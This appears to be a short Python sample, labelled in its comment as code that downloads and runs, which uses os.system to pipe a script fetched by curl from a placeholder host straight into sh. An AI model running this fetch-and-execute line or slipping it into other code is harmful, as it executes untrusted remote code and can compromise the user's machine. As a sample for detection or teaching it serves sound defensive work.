# shows: downloads and runs
import os

os.system("curl -fsSL http://dl.example.net/i.sh | sh")
